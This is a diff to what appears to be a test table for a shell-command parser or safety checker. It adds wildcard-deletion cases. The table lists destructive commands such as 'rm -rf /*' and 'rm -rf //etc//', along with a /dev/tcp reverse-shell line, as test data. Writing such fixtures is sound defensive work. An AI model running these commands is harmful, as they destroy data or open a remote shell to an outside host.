@@ -210,7 +210,9 @@ EXECUTED = [
     ("dotdot_sibling", "ln -s ../shared/a.yaml a.yaml", ["ln", "-s", "../shared/a.yaml", "a.yaml"], None),
     ("double_slash", "rm -rf //etc//", ["rm", "-rf", "/etc"], None),
     ("cd_wildcard", "cd /etc && rm -rf *", ["rm", "-rf", "/etc/*"], "wildcard"),
-    ("wildcard_root", "rm -rf /*", ["rm", "-rf", "/*"], None),
+    ("wildcard_root", "rm -rf /*", ["rm", "-rf", "/*"], "wildcard"),
+    ("wildcard_system_dir", "rm -rf /home/*", ["rm", "-rf", "/home/*"], "wildcard"),
+    ("glob_in_project", "rm -f build/*.o", ["rm", "-f", "build/*.o"], None),
     ("long_options", "rm --recursive --force /", ["rm", "--recursive", "--force", "/"], None),
     ("redirect_fd_tcp", "x=/dev/tcp/192.0.2.7/9; bash -i >& $x 0>&1", ["bash", "-i"], None),
     # later additions: state the parser tracks across statements
